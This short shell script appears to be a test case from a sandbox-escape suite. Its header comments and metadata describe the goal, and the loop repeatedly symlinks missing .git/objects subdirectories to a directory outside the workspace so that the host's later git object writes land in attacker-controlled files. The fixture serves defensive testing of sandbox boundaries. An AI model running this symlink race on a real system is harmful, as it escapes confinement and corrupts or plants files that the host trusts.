#!/bin/sh
# Keeps links to a directory beside the workspace in the place of objects, while the host goes on working.
# Matters: the host's next objects are written there: many files, of which some contents are the attacker's.
# Held by: directories of objects that the host writes to are not the sandbox's to replace.
# judge: host
# remains: docs/git.md
# harm: file
# prepare: : >live
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
common=.git
own=.git
i=0
while [ ! -e attack/done ] && [ $i -lt 200000 ]; do
    n=0
    while [ $n -lt 256 ]; do
        dir=$common/objects/$(printf %02x $n)
        [ -e "$dir" ] || ln -s "$HOSTILE_STAGE/sibling" "$dir"
        n=$((n + 1))
    done
    [ -e attack/ready ] || : >attack/ready
    i=$((i + 1))
done
